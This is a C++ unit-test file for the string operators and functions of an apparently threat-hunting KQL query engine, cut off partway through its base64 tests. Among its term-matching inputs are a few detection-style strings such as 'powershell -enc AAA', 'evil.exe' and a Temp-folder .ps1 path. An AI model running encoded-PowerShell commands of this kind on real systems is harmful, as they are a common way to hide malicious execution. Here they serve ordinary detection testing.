// String operators and functions, checked against the examples of Microsoft's KQL docs
// (data-explorer/kusto/query/<name>-function.md, <name>-operator.md,
// datatypes-string-operators.md) and hand-worked cases for what the docs leave open
// (docs/semantics/string.md).
#include <algorithm>
#include <catch2/catch.hpp>
#include <cstdio>
#include <ctime>
#include <string>
#include <vector>

#include "huntq/engine/functions.h"
#include "huntq/error.h"
#include "huntq/value/datetime.h"
#include "huntq/value/dynamic.h"

using namespace huntq;
using namespace huntq::engine;

namespace {

Value S(std::string s) {
  return Value::string(std::move(s));
}
Value L(std::int64_t v) {
  return Value::int64(v);
}
Value I(std::int32_t v) {
  return Value::int32(v);
}
Value J(std::string_view json) {
  return Value::dynamic(parse_json_text(json));
}

Value call(std::string_view name, std::vector<Value> args) {
  return call_function(name, args);
}

// The call with no argument known when the query is bound (a column per argument), except
// those the function requires to be constants: the kernels' per-row paths.
Value call_rows(std::string_view name, std::vector<Value> args, std::vector<bool> constant = {}) {
  const ScalarFunction* f = FunctionRegistry::instance().scalar(name);
  REQUIRE(f);
  std::vector<ArgInfo> infos;
  for (std::size_t i = 0; i < args.size(); ++i)
    infos.push_back({args[i].type(), i < constant.size() && constant[i] ? &args[i] : nullptr});
  const ResolvedCall rc = resolve_call(*f, infos);
  std::vector<Value> converted;
  for (std::size_t i = 0; i < args.size(); ++i)
    converted.push_back(convert_argument(args[i], rc.param_types[i]));
  std::vector<const Value*> ptrs;
  for (const auto& v : converted) ptrs.push_back(&v);
  return evaluate_call(rc, Args(ptrs.data(), ptrs.size()));
}

// Both paths must agree; returns the answer.
bool op(std::string_view name, Value lhs, Value rhs) {
  const Value a = call(name, {lhs, rhs});
  const Value b = call_rows(name, {lhs, rhs});
  REQUIRE(a.type() == Type::Bool);
  REQUIRE(b.type() == Type::Bool);
  CHECK(a.as_bool() == b.as_bool());
  return a.as_bool();
}
bool op(std::string_view name, std::string lhs, std::string rhs) {
  return op(name, S(std::move(lhs)), S(std::move(rhs)));
}

std::string text(const Value& v) {
  REQUIRE(v.type() == Type::String);
  return v.text();
}
std::string json(const Value& v) {
  REQUIRE(v.type() == Type::Dynamic);
  return v.is_null() ? "null" : to_json(*v.tree());
}
// CPU time of this thread: the machine's other load does not count.
double thread_cpu_ns() {
  timespec ts{};
  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
  return static_cast<double>(ts.tv_sec) * 1e9 + static_cast<double>(ts.tv_nsec);
}

std::int64_t num(const Value& v) {
  REQUIRE(!v.is_null());
  return v.as_int64();
}

}  // namespace

// --- operators ----------------------------------------------------------------------------------

TEST_CASE("string: every example of the string operators table is true (E-4)") {
  // datatypes-string-operators.md, "Example (yields true)"
  CHECK(op("=~", "abc", "ABC"));
  CHECK(op("!~", "aBc", "xyz"));
  CHECK(op("contains", "FabriKam", "BRik"));
  CHECK(op("!contains", "Fabrikam", "xyz"));
  CHECK(op("contains_cs", "FabriKam", "Kam"));
  CHECK(op("!contains_cs", "Fabrikam", "Kam"));
  CHECK(op("endswith", "Fabrikam", "Kam"));
  CHECK(op("!endswith", "Fabrikam", "brik"));
  CHECK(op("endswith_cs", "Fabrikam", "kam"));
  CHECK(op("!endswith_cs", "Fabrikam", "brik"));
  CHECK(op("has", "North America", "america"));
  CHECK(op("!has", "North America", "amer"));
  CHECK(op("has_all", S("North and South America"), J(R"(["south", "north"])")));
  CHECK(op("has_any", S("North America"), J(R"(["south", "north"])")));
  CHECK(op("has_cs", "North America", "America"));
  CHECK(op("!has_cs", "North America", "amer"));
  CHECK(op("hasprefix", "North America", "ame"));
  CHECK(op("!hasprefix", "North America", "mer"));
  CHECK(op("hasprefix_cs", "North America", "Ame"));
  CHECK(op("!hasprefix_cs", "North America", "CA"));
  CHECK(op("hassuffix", "North America", "ica"));
  CHECK(op("!hassuffix", "North America", "americ"));
  CHECK(op("hassuffix_cs", "North America", "ica"));
  CHECK(op("!hassuffix_cs", "North America", "icA"));
  CHECK(op("in~", S("Abc"), J(R"(["123", "345", "abc"])")));
  CHECK(op("!in~", S("bCa"), J(R"(["123", "345", "ABC"])")));
  CHECK(op("matches regex", "Fabrikam", "b.*k"));
  CHECK(op("startswith", "Fabrikam", "fab"));
  CHECK(op("!startswith", "Fabrikam", "kam"));
  CHECK(op("startswith_cs", "Fabrikam", "Fab"));
  CHECK(op("!startswith_cs", "Fabrikam", "fab"));
}

TEST_CASE("string: the false sides of the operators") {
  CHECK_FALSE(op("=~", "abc", "abd"));
  CHECK_FALSE(op("!~", "aBc", "ABC"));
  CHECK_FALSE(op("contains_cs", "FabriKam", "kam"));
  CHECK_FALSE(op("startswith_cs", "Fabrikam", "fab"));
  CHECK_FALSE(op("endswith", "Fabrikam", "Fab"));
  CHECK_FALSE(op("has_cs", "North America", "america"));
  CHECK_FALSE(op("hasprefix", "North America", "mer"));
  CHECK_FALSE(op("hassuffix", "North America", "americ"));
  CHECK_FALSE(op("matches regex", "Fabrikam", "^b"));
  CHECK_FALSE(op("matches regex", "fabrikam", "F"));  // case-sensitive
}

TEST_CASE("string: has matches whole terms (E-5)") {
  // datatypes-string-operators.md "What is a term?"
  const std::string s = "Kusto: ad67d136-c1db-4f9f-88ef-d94f3b6b0b5a;KustoExplorerQueryRun";
  for (const char* term : {"Kusto", "ad67d136", "c1db", "4f9f", "88ef", "d94f3b6b0b5a",
                           "KustoExplorerQueryRun", "kustoexplorerqueryrun"})
    CHECK(op("has", s, term));
  CHECK_FALSE(op("has", "KustoExplorerQueryRun", "Explorer"));
  CHECK(op("contains", "KustoExplorerQueryRun", "Explorer"));
  CHECK_FALSE(op("has", "error", "err"));
  CHECK(op("has", "State: NEW YORK", "New"));  // has-operator.md: State has "New"
  // Short terms work too: the 3-character index minimum is only about speed.
  CHECK(op("has", "a b", "a"));
  CHECK_FALSE(op("has", "ab", "a"));
  // Underscore and non-ASCII bytes separate terms.
  CHECK(op("has", "hello_world", "world"));
  CHECK(op("has", "caf\xC3\xA9", "caf"));
}

TEST_CASE("string: has with non-alphanumeric characters in the term") {
  // The right side matches where its alphanumeric ends meet term boundaries.
  CHECK(op("has", "x a-b y", "a-b"));
  CHECK_FALSE(op("has", "xa-b y", "a-b"));
  CHECK_FALSE(op("has", "x a-by", "a-b"));
  CHECK(op("has", "C:\\Windows\\System32\\cmd.exe", "C:\\Windows"));
  CHECK(op("has", "c:\\windows\\system32\\cmd.exe", "C:\\Windows\\System32"));
  CHECK_FALSE(op("has", "C:\\WindowsApps\\x", "C:\\Windows"));
  CHECK(op("has", "evil.exe", ".exe"));
  CHECK(op("has", "EVIL.EXE -x", ".exe"));
  CHECK_FALSE(op("has", "evil.exe2", ".exe"));
  CHECK(op("has", "powershell -enc AAA", "-enc"));
  CHECK_FALSE(op("has", "powershell -encodedcommand AAA", "-enc"));
  CHECK(op("has", "a--b", "-"));  // no term characters: a substring test
  CHECK(op("has", "anything", ""));
  CHECK(op("has", "", ""));
  CHECK_FALSE(op("has", "", "a"));
  // A later occurrence may match where an earlier one does not.
  CHECK(op("has", "xcmd cmd", "cmd"));
  CHECK(op("hasprefix", "xcmd cmdline", "cmd"));
  CHECK(op("hassuffix", "cmdx mycmd", "cmd"));
  CHECK(op("hasprefix", "North America", "a"));
  CHECK_FALSE(op("hasprefix", "North America", "ica"));
  CHECK(op("hassuffix", "North.America", "h.america"));
}

TEST_CASE("string: dynamic and non-string left sides are compared as their text") {
  CHECK(op("has", J("[1,2]"), S("1")));  // the terms of "[1,2]" are 1 and 2
  CHECK_FALSE(op("has", J("[12,2]"), S("1")));
  CHECK(op("contains", J(R"({"a":"Hello"})"), S("\"a\":\"hello")));
  CHECK(op("=~", J(R"("ABC")"), S("abc")));  // a dynamic string is unquoted
  CHECK(op("startswith", L(12345), S("123")));
  CHECK(op("has", Value::null_of(Type::Dynamic), S("")));
  CHECK_FALSE(op("contains", Value::null_of(Type::Dynamic), S("x")));
  CHECK(op("!contains", Value::null_of(Type::Dynamic), S("x")));
}

TEST_CASE("string: case-insensitive operators fold ASCII letters only") {
  // includes/in-operator-comparison.md: only ASCII text is supported case-insensitively.
  CHECK_FALSE(op("=~", "\xC3\x89T\xC3\x89", "\xC3\xA9t\xC3\xA9"));  // ÉTÉ =~ été
  CHECK(op("=~", "\xC3\x89T\xC3\x89", "\xC3\x89t\xC3\x89"));
  CHECK(op("contains", "\xD0\x9F\xD1\x80\xD0\xB8Vet", "\xD1\x80\xD0\xB8VET"));
  CHECK_FALSE(op("contains", "\xD0\x9F", "\xD0\xBF"));  // П vs п
  // Continuation bytes never fold: Á (C3 81) and á (C3 A1) differ by the ASCII case bit.
  CHECK_FALSE(op("=~", "\xC3\x81", "\xC3\xA1"));
  CHECK_FALSE(op("contains", "x\xC3\x81y", "\xC3\xA1"));
  CHECK_FALSE(op("has", "x \xC3\x81 y", "\xC3\xA1"));
}

TEST_CASE("string: has_any and has_all") {
  // has-any-operator.md: State has_any ("CAROLINA", "DAKOTA", "NEW")
  const Value states = J(R"(["CAROLINA", "DAKOTA", "NEW"])");
  for (const char* s : {"NEW YORK", "NORTH CAROLINA", "SOUTH DAKOTA", "NEW HAMPSHIRE"})
    CHECK(op("has_any", S(s), states));
  for (const char* s : {"TEXAS", "NEWARK", "KANSAS"}) CHECK_FALSE(op("has_any", S(s), states));
  const Value areas = J(R"(["south", "north"])");
  CHECK(op("has_any", S("ATLANTIC SOUTH"), areas));
  CHECK_FALSE(op("has_any", S("SOUTHERN"), areas));
  // has-all-operator.md: has_all ("cold", "strong", "afternoon", "hail")
  const Value all = J(R"(["cold", "strong", "afternoon", "hail"])");
  CHECK(op("has_all", S("A strong cold front brought hail in the afternoon."), all));
  CHECK_FALSE(op("has_all", S("A strong cold front brought rain in the afternoon."), all));
  // Items with non-term characters, numbers, nested arrays, duplicates, nulls.
  CHECK(op("has_any", S("run C:\\Temp\\x.exe now"), J(R"(["zzz", "C:\\Temp"])")));
  CHECK(op("has_any", S("port 445 open"), J("[22, [445]]")));
  CHECK(op("has_all", S("a b"), J(R"(["a", "A", "b", null])")));
  CHECK_FALSE(op("has_all", S("a b"), J(R"(["a", "c"])")));
  CHECK_FALSE(op("has_any", S("a b"), J("[]")));
  // Items with non-term characters are tested only when the text has their longest term.
  CHECK_FALSE(op("has_any", S("powershell -encodedcommand x"), J(R"(["-enc", "zz"])")));
  CHECK(op("has_any", S("powershell -enc x"), J(R"(["zz", "-enc"])")));
  CHECK(op("has_all", S("x a-b c"), J(R"(["a-B", "c"])")));
  CHECK_FALSE(op("has_all", S("a b c"), J(R"(["a-b", "c"])")));
  CHECK_FALSE(op("has_all", S("x a-b"), J(R"(["a-b", "c"])")));
  CHECK(op("has_any", S("x--y"), J(R"(["--"])")));
  CHECK(op("has_any", S("C:\\Windows\\Temp\\a.ps1"), J(R"(["temp\\a.ps1", ".exe"])")));
  CHECK_FALSE(op("has_any", S("C:\\Windows\\Temp\\a.ps1x"), J(R"(["temp\\a.ps1", ".exe"])")));
  CHECK(op("has_all", S("a b"), J("[]")));
  CHECK_FALSE(op("has_any", S("a b"), Value::null_of(Type::Dynamic)));
  // A list longer than Kusto allows is refused.
  std::string big = "[";
  for (int i = 0; i < 257; ++i) big += (i ? ",\"t" : "\"t") + std::to_string(i) + "\"";
  big += "]";
  CHECK_THROWS_AS(call("has_all", {S("x"), J(big)}), Error);
  CHECK(op("has_any", S("x t256"), J(big)));
}

TEST_CASE("string: has_all with many terms over a long text") {
  std::string text, list = "[";
  for (int i = 0; i < 200; ++i) {
    text += "Term" + std::to_string(i) + (i % 3 ? " " : "-");
    list += (i ? ",\"term" : "\"term") + std::to_string(i) + "\"";
  }
  list += "]";
  CHECK(op("has_all", S(text), J(list)));
  CHECK_FALSE(op("has_all", S(text.substr(0, text.size() - 10)), J(list)));
  CHECK(op("has_any", S("xx term199"), J(list)));
}

TEST_CASE("string: in~ compares case-insensitively with the list's text") {
  // in-operator.md: State in~ ("FLORIDA", "georgia", "NEW YORK")
  const Value states = J(R"(["FLORIDA", "georgia", "NEW YORK"])");
  CHECK(op("in~", S("Georgia"), states));
  CHECK(op("in~", S("new york"), states));
  CHECK_FALSE(op("in~", S("new"), states));
  CHECK(op("!in~", S("TEXAS"), states));
  // Non-string elements compare by their tostring() text; nested arrays are flattened.
  CHECK(op("in~", S("1"), J("[1, 2]")));
  CHECK(op("in~", S("true"), J("[[false], [true]]")));
  CHECK(op("in~", L(5), J(R"(["5"])")));
  CHECK_FALSE(op("in~", S(""), J("[null]")));
  CHECK_FALSE(op("in~", S("a"), Value::null_of(Type::Dynamic)));
  CHECK(op("!in~", S("a"), Value::null_of(Type::Dynamic)));
}

TEST_CASE("string: matches regex is RE2, unanchored, and refuses a bad constant pattern") {
  // matches-regex-operator.md: State matches regex "K.*S"
  for (const char* s : {"KANSAS", "ARKANSAS", "LAKE SUPERIOR", "LAKE ST CLAIR"})
    CHECK(op("matches regex", s, "K.*S"));
  CHECK_FALSE(op("matches regex", "TEXAS", "K.*S"));
  CHECK_FALSE(op("matches regex", "a\nb", "^b"));  // ^ is the start of the text...
  CHECK(op("matches regex", "a\nb", "(?m)^b"));    // ...unless the m flag is set
  try {
    call("matches regex", {S("x"), S("(unclosed")});
    FAIL("no error");
  } catch (const Error& e) {
    CHECK(std::string(e.what()).find("invalid regex") != std::string::npos);
  }
  // A pattern that changes per row is compiled per distinct value (cached).
  for (int i = 0; i < 20; ++i) {
    const std::string pat = "x" + std::to_string(i % 10) + "$";
    CHECK(call_rows("matches regex", {S("ax" + std::to_string(i % 10)), S(pat)}).as_bool());
    CHECK_FALSE(
        call_rows("matches regex", {S("ax" + std::to_string(i % 10) + "y"), S(pat)}).as_bool());
  }
  CHECK_THROWS_AS(call_rows("matches regex", {S("x"), S("[")}), Error);
}

// --- functions ---------------------------------------------------------------------------------

TEST_CASE("string: strlen and string_size count code points and bytes") {
  // strlen-function.md, string-size-function.md
  CHECK(num(call("strlen", {S("hello")})) == 5);
  CHECK(num(call("strlen", {S("⒦⒰⒮⒯⒪")})) == 5);
  CHECK(num(call("strlen", {S("C\xCC\xA7"
                              "edilla")})) == 8);  // C + U+0327 is 2 code points
  CHECK(num(call("string_size", {S("hello")})) == 5);
  CHECK(num(call("string_size", {S("⒦⒰⒮⒯⒪")})) == 15);
  CHECK(num(call("strlen", {S("")})) == 0);
  CHECK(num(call("strlen", {S(std::string("a\xFF\xC3", 3))})) == 3);  // bad bytes count 1 each
  CHECK(num(call("strlen", {J(R"(["ab"])")})) == 6);                  // ["ab"]
  CHECK(num(call("strlen", {J(R"("ab")")})) == 2);
  CHECK_THROWS_AS(call("strlen", {L(5)}), Error);  // Kusto takes a string or a dynamic
}

TEST_CASE("string: tolower and toupper") {
  CHECK(text(call("tolower", {S("Hello")})) == "hello");  // tolower-function.md
  CHECK(text(call("toupper", {S("hello")})) == "HELLO");  // toupper-function.md
  CHECK(text(call("tolower", {S("ÀÉÎ ПРИВЕТ")})) == "àéî привет");
  CHECK(text(call("toupper", {S("àéî привет")})) == "ÀÉÎ ПРИВЕТ");
  CHECK(text(call("tolower", {L(5)})) == "5");
}

TEST_CASE("string: substring") {
  // substring-function.md
  CHECK(text(call("substring", {S("123456"), L(1)})) == "23456");
  CHECK(text(call("substring", {S("123456"), L(2), L(2)})) == "34");
  CHECK(text(call("substring", {S("ABCD"), L(0), L(2)})) == "AB");
  CHECK(text(call("substring", {S("123456"), L(-2), L(2)})) == "56");
  // Out of range: the window is cut to the string.
  CHECK(text(call("substring", {S("abc"), L(5)})) == "");
  CHECK(text(call("substring", {S("abc"), L(-5)})) == "abc");
  CHECK(text(call("substring", {S("abc"), L(-5), L(2)})) == "");
  CHECK(text(call("substring", {S("abc"), L(-4), L(2)})) == "a");
  CHECK(text(call("substring", {S("abc"), L(1), L(-1)})) == "");
  CHECK(text(call("substring", {S("abc"), L(1), L(INT64_MAX)})) == "bc");
  CHECK(text(call("substring", {S("abc"), L(INT64_MIN), L(INT64_MAX)})) == "ab");  // ends at 2
  CHECK(text(call("substring", {S("abc"), L(INT64_MIN)})) == "abc");
  CHECK(text(call("substring", {S("⒦⒰⒮⒯⒪"), L(1), L(3)})) == "⒰⒮⒯");
  CHECK(text(call("substring", {S("⒦⒰⒮⒯⒪"), L(-1)})) == "⒪");
  CHECK(text(call("substring", {S("abc"), Value::null_of(Type::Long)})) == "");
  CHECK(text(call("substring", {L(123456), I(1), I(2)})) == "23");
}

TEST_CASE("string: strcat, strcat_delim, strcat_array") {
  CHECK(text(call("strcat", {S("hello"), S(" "), S("world")})) == "hello world");
  CHECK(text(call("strcat", {S("Line 1\n"), S("Line 2\n"), S("Line 3")})) ==
        "Line 1\nLine 2\nLine 3");
  // strcat-delim-function.md: strcat_delim('-', 1, '2', 'A', 1s)
  CHECK(text(call("strcat_delim", {S("-"), I(1), S("2"), S("A"), Value::timespan(10000000)})) ==
        "1-2-A-00:00:01");
  CHECK(text(call("strcat", {S("a"), Value::null_of(Type::Long), S("b")})) == "ab");
  // strcat-array-function.md
  CHECK(text(call("strcat_array", {J("[1, 2, 3]"), S("->")})) == "1->2->3");
  CHECK(text(call("strcat_array", {J("[1, 2, 3]"), S("\"")})) == "1\"2\"3");
  CHECK(text(call("strcat_array", {J(R"(["a", null, [1], {"k":"v"}])"), S(",")})) ==
        "a,,[1],{\"k\":\"v\"}");
  CHECK(text(call("strcat_array", {J("{}"), S(",")})) == "");
  CHECK_THROWS_AS(call("strcat_delim", {S("-"), S("a")}), Error);  // at least 2 arguments
}

TEST_CASE("string: split") {
  // split-function.md
  CHECK(json(call("split", {S("aa_bb"), S("_")})) == R"(["aa","bb"])");
  CHECK(json(call("split", {S("aaa_bbb_ccc"), S("_"), L(1)})) == R"(["bbb"])");
  CHECK(json(call("split", {S(""), S("_")})) == R"([""])");
  CHECK(json(call("split", {S("a__b"), S("_")})) == R"(["a","","b"])");
  CHECK(json(call("split", {S("aabbcc"), S("bb")})) == R"(["aa","cc"])");
  CHECK(json(call("split", {S("a_b"), S("_"), L(5)})) == "[]");
  CHECK(json(call("split", {S("a_b"), S("_"), L(-1)})) == "[]");
  CHECK(json(call("split", {S("abc"), S("")})) == R"(["abc"])");
  CHECK(json(call("split", {S("C:\\Windows\\cmd.exe"), S("\\")})) ==
        R"(["C:","Windows","cmd.exe"])");
}

TEST_CASE("string: replace_string, replace_regex and the legacy replace") {
  // replace-string-function.md
  CHECK(text(call("replace_string",
                  {S("A magic trick can turn a cat into a dog"), S("cat"), S("hamster")})) ==
        "A magic trick can turn a hamster into a dog");
  CHECK(text(call("replace_string", {S("Number is 1"), S("is"), S("was")})) == "Number was 1");
  CHECK(text(call("replace_string", {S("aaa"), S("aa"), S("b")})) == "ba");  // no overlaps
  CHECK(text(call("replace_string", {S("abc"), S(""), S("x")})) == "abc");
  // replace-regex-function.md
  CHECK(text(call("replace_regex", {S("Number is 1"), S(R"(is (\d+))"), S(R"(was: \1)")})) ==
        "Number was: 1");
  CHECK(text(call("replace_regex", {S("a1b22"), S(R"(\d)"), S(R"(<\0>)")})) == "a<1>b<2><2>");
  CHECK(text(call("replace", {S(R"(is (\d+))"), S(R"(was: \1)"), S("Number is 12")})) ==
        "Number was: 12");
  CHECK_THROWS_AS(call("replace_regex", {S("x"), S("(a)"), S(R"(\2)")}), Error);
  CHECK_THROWS_AS(call("replace_regex", {S("x"), S("(a"), S("")}), Error);
  CHECK_THROWS_AS(call_rows("replace_regex", {S("x"), S("a"), S("b")}, {false, false, true}),
                  Error);  // Kusto requires a constant regex
}

TEST_CASE("string: extract") {
  // extract-function.md
  const std::string james = "User: James, Email: James@example.com, Age: 29";
  const std::string david = "User: David, Age: 35";
  CHECK(text(call("extract", {S("User: ([^,]+)"), L(1), S(james)})) == "James");
  CHECK(text(call("extract", {S(R"(Email: (\S+),)"), L(1), S(james)})) == "James@example.com");
  CHECK(text(call("extract", {S(R"(\d+)"), L(0), S(james)})) == "29");
  CHECK(text(call("extract", {S("User: ([^,]+)"), L(1), S(david)})) == "David");
  CHECK(text(call("extract", {S(R"(Email: (\S+),)"), L(1), S(david)})) == "");
  CHECK(text(call("extract", {S(R"(\d+)"), L(0), S(david)})) == "35");
  CHECK(text(call("extract", {S("(a)|(b)"), L(1), S("b")})) == "");  // the group took no part
  CHECK(text(call("extract", {S("(a)"), L(2), S("a")})) == "");      // no such group: null
  CHECK_THROWS_AS(call("extract", {S("("), L(0), S("a")}), Error);
  CHECK_THROWS_AS(call_rows("extract", {S("a"), L(0), S("a")}), Error);
  // typeof(T) comes from the binder as a constant string; the result has that type.
  if (FunctionRegistry::instance().scalar("toint")) {
    for (auto [date, month] : {std::pair{"15-12-2024", 12}, {"21-07-2023", 7}, {"10-03-2022", 3}}) {
      const Value v = call("extract", {S(R"(-(\d{2})-)"), L(1), S(date), S("int")});
      CHECK(v.type() == Type::Int);
      CHECK(num(v) == month);
    }
    CHECK(call("extract", {S("x"), L(0), S("abc"), S("int")}).is_null());
  } else {
    WARN("toint() is not registered yet: extract(..., typeof(int)) not checked");
  }
  CHECK_THROWS_AS(call("extract", {S("x"), L(0), S("x"), S("decimalish")}), Error);
}

TEST_CASE("string: extract_all") {
  // extract-all-function.md
  CHECK(json(call("extract_all", {S(R"((\d+))"), S("a set of numbers: 123, 567 and 789")})) ==
        R"(["123","567","789"])");
  const Value id = S("82b8be2d-dfa7-4bd1-8f63-24ad26d31449");
  CHECK(json(call("extract_all", {S(R"(([\da-f]{2}))"), id})) ==
        R"(["82","b8","be","2d","df","a7","4b","d1","8f","63","24","ad","26","d3","14","49"])");
  CHECK(
      json(call("extract_all", {S(R"((\w)(\w+)(\w))"), id})) ==
      R"([["8","2b8be2","d"],["d","fa","7"],["4","bd","1"],["8","f6","3"],["2","4ad26d3144","9"]])");
  CHECK(json(call("extract_all", {S(R"((\w)(\w+)(\w))"), J("[1,3]"), id})) ==
        R"([["8","d"],["d","7"],["4","1"],["8","3"],["2","9"]])");
  CHECK(
      json(call("extract_all", {S(R"((?P<first>\w)(?P<middle>\w+)(?P<last>\w))"),
                                J(R"(["first",2,"last"])"), id})) ==
      R"([["8","2b8be2","d"],["d","fa","7"],["4","bd","1"],["8","f6","3"],["2","4ad26d3144","9"]])");
  CHECK(json(call("extract_all", {S(R"((\d+))"), S("none")})) == "null");
  CHECK(json(call("extract_all", {S(R"((x*))"), S("ab")})) == R"(["","",""])");  // empty matches
  CHECK(json(call("extractall", {S(R"((\d))"), S("a1b2")})) == R"(["1","2"])");
  CHECK_THROWS_AS(call("extract_all", {S("(a)"), J("[2]"), S("a")}), Error);
  // A captureGroups column that names no group gives null for that row.
  CHECK(json(call_rows("extract_all", {S("(a)"), J("[2]"), S("a")}, {true})) == "null");
  CHECK(json(call_rows("extract_all", {S("(a)(b)"), J("[2]"), S("ab")}, {true})) == R"(["b"])");
}

TEST_CASE("string: trim, trim_start, trim_end") {
  // trim-function.md, trim-start-function.md, trim-end-function.md
  CHECK(text(call("trim", {S("--"), S("--https://bing.com--")})) == "https://bing.com");
  CHECK(text(call("trim", {S(R"([^\w]+)"), S("-  Te st1// $")})) == "Te st1");
  CHECK(text(call("trim", {S(R"(\s+)"), S("    Hello, world!    ")})) == "Hello, world!");
  CHECK(text(call("trim_start", {S("https://"), S("https://bing.com")})) == "bing.com");
  CHECK(text(call("trim_start", {S(R"([^\w]+)"), S("-  Te st1// $")})) == "Te st1// $");
  CHECK(text(call("trim_start", {S(R"(\s+)"), S("    Hello, world!    ")})) == "Hello, world!    ");
  CHECK(text(call("trim_end", {S(".com"), S("bing.com")})) == "bing");
  CHECK(text(call("trim_end", {S(R"([^\w]+)"), S("-  Te st1// $")})) == "-  Te st1");
  CHECK(text(call("trim_end", {S(R"(\s+)"), S("    Hello, world!    ")})) == "    Hello, world!");
  CHECK(text(call("trim", {S("x"), S("")})) == "");
  CHECK(text(call("trim", {S(""), S("abc")})) == "abc");
  CHECK(text(call("trim_start", {S("a|b"), S("bax")})) == "ax");  // one match is removed
  CHECK_THROWS_AS(call("trim", {S("a)"), S("abc")}), Error);
}

TEST_CASE("string: indexof") {
  // indexof-function.md
  CHECK(num(call("indexof", {S("abcdefg"), S("cde")})) == 2);
  CHECK(num(call("indexof", {S("abcdefg"), S("cde"), L(1), L(4)})) == 2);
  CHECK(num(call("indexof", {S("abcdefg"), S("cde"), L(1), L(2)})) == -1);
  CHECK(num(call("indexof", {S("abcdefg"), S("cde"), L(3), L(4)})) == -1);
  CHECK(num(call("indexof", {S("abcdefg"), S("cde"), L(-5)})) == 2);
  CHECK(num(call("indexof", {L(1234567), L(5), L(1), L(4)})) == 4);
  CHECK(num(call("indexof", {S("abcdefg"), S("cde"), L(2), L(-1)})) == 2);
  CHECK(num(call("indexof", {S("abcdefgabcdefg"), S("cde"), L(1), L(10), L(2)})) == 9);
  CHECK(num(call("indexof", {S("abcdefgabcdefg"), S("cde"), L(1), L(-1), L(3)})) == -1);
  // The null cases of the doc, and a start past the end.
  CHECK(call("indexof", {S("abc"), S("b"), L(-10)}).is_null());
  CHECK(call("indexof", {S("abc"), S("b"), L(0), L(-2)}).is_null());
  CHECK(call("indexof", {S("abc"), S("b"), L(0), L(-1), L(-1)}).is_null());
  CHECK(num(call("indexof", {S("abc"), S("b"), L(10)})) == -1);
  CHECK(num(call("indexof", {S("⒦⒰⒮"), S("⒮")})) == 2);  // a character index
  CHECK(num(call("indexof", {S("⒦⒰⒮⒦⒰⒮"), S("⒰"), L(2)})) == 4);
  CHECK(call("indexof", {S("abc"), S("b"), Value::null_of(Type::Long)}).is_null());
  CHECK_THROWS_AS(call_rows("indexof", {S("a"), S("a"), L(0), L(1), L(1)}), Error);
}

TEST_CASE("string: countof") {
  // countof-function.md
  CHECK(num(call("countof", {S("aaa"), S("a")})) == 3);
  CHECK(num(call("countof", {S("aaaa"), S("aa")})) == 3);
  CHECK(num(call("countof", {S("ababa"), S("ab"), S("normal")})) == 2);
  CHECK(num(call("countof", {S("ababa"), S("aba")})) == 2);
  CHECK(num(call("countof", {S("ababa"), S("aba"), S("regex")})) == 1);
  CHECK(num(call("countof", {S("abcabc"), S("a.c"), S("regex")})) == 2);
  CHECK(num(call("countof", {S("abc"), S("")})) == 0);
  CHECK(num(call("countof", {S("abc"), S("x*"), S("regex")})) == 4);  // empty matches count
  CHECK(num(call_rows("countof", {S("a1b22"), S(R"(\d)"), S("regex")}, {false, false, true})) == 3);
  CHECK_THROWS_AS(call("countof", {S("a"), S("a"), S("fuzzy")}), Error);
}

TEST_CASE("string: reverse") {
  // reverse-function.md
  CHECK(text(call("reverse", {S("ABCDEFGHIJKLMNOPQRSTUVWXYZ")})) == "ZYXWVUTSRQPONMLKJIHGFEDCBA");
  CHECK(text(call("reverse", {L(12345)})) == "54321");
  CHECK(text(call("reverse", {Value::real(123.45)})) == "54.321");
  CHECK(text(call("reverse", {Value::datetime(ticks_from_civil(2017, 10, 15, 12))})) ==
        "Z0000000.00:00:21T51-01-7102");
  CHECK(text(call("reverse", {Value::timespan(3 * 36000000000LL)})) == "00:00:30");
  CHECK(text(call("reverse", {S("a⒦b")})) == "b⒦a");
}

TEST_CASE("string: strrep") {
  // strrep-function.md
  CHECK(text(call("strrep", {S("ABC"), L(2)})) == "ABCABC");
  CHECK(text(call("strrep", {L(123), L(3), S(".")})) == "123.123.123");
  CHECK(text(call("strrep", {Value::timespan(30000000), L(2), S(" ")})) == "00:00:03 00:00:03");
  CHECK(text(call("strrep", {S("a"), L(0)})) == "");
  CHECK(text(call("strrep", {S("a"), L(-5)})) == "");
  // Huge counts are bounded: at most 64 MiB of whole repetitions.
  CHECK(text(call("strrep", {S("abcd"), L(1000000000000LL)})).size() == (std::size_t{64} << 20));
  CHECK(text(call("strrep", {S(""), L(1000000000000LL)})) == "");
}

TEST_CASE("string: url_encode, url_encode_component, url_decode") {
  CHECK(text(call("url_decode", {S("https%3a%2f%2fwww.bing.com%2f")})) == "https://www.bing.com/");
  CHECK(text(call("url_encode", {S("https://www.bing.com/hello world")})) ==
        "https%3a%2f%2fwww.bing.com%2fhello+world");
  // url-encode-component-function.md shows the input with a trailing '/' but not its %2f.
  CHECK(text(call("url_encode_component", {S("https://www.bing.com/hello world")})) ==
        "https%3a%2f%2fwww.bing.com%2fhello%20world");
  CHECK(text(call("url_encode", {S("a+b=é")})) == "a%2bb%3d%c3%a9");
  CHECK(text(call("url_encode", {S("-_.!*()~'")})) == "-_.!*()%7e%27");
  CHECK(text(call("url_decode", {S("a+b%zz%4")})) == "a b%zz%4");
  CHECK(text(call("url_decode", {S("%C3%A9%u00e9")})) == "éé");
  CHECK(text(call("url_decode", {S("%ff")})) == "\xEF\xBF\xBD");  // not UTF-8: U+FFFD
}

TEST_CASE("string: base64 functions") {
  CHECK(text(call("base64_encode_tostring", {S("Kusto")})) == "S3VzdG8=");
  CHECK(text(call("base64_encodestring", {S("Kusto")})) == "S3VzdG8=");
  CHECK(text(call("base64_decode_tostring", {S("S3VzdG8=")})) == "Kusto");
  CHECK(text(call("base64_decodestring", {S("S3VzdG8=")})) == "Kusto");
  // Decoded bytes that are not UTF-8 give "" (base64-decode-tostring-function.md).
  CHECK(text(call("base64_decode_tostring", {S("U3RyaW5n0KHR0tGA0L7Rh9C60LA=")})) == "");
  CHECK(json(call("base64_decode_toarray", {S("S3VzdG8=")})) == "[75,117,115,116,111]");
  CHECK(text(call("base64_encode_fromarray", {J("[75,117,115,116,111]")})) == "S3VzdG8=");
  // base64-encode-fromarray-function.md: the unpadded text does not decode, so "" comes out.
  const Value bytes = call("base64_decode_toarray", {S("U3RyaW5n0KHR0tGA0L7Rh9C60LA")});
  CHECK(bytes.is_null());
  CHECK(text(call("base64_encode_fromarray", {bytes})) == "");
